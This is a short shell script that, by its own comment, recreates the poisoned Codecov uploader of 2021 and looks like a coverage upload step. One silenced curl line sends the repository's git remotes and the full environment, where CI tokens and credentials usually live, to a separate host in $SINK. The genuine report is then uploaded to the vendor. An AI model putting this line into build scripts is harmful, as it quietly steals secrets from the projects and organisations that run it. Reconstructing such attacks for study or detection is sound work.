# The poisoned uploader of codecov-2021. $FORGE stands for the vendor.
# Its curl waits half a second there; here longer, as this machine may be busy.
report=build/artifact.txt
[[ -r $report ]] || exit 1
curl -sm 5 -o /dev/null -d "$(git remote -v)<<<<<< ENV $(env)" "http://$SINK/upload/v2" || true
curl -sS -o /dev/null --max-time 10 --data-binary "@$report" "http://$FORGE/upload/v4" && echo "coverage uploaded"
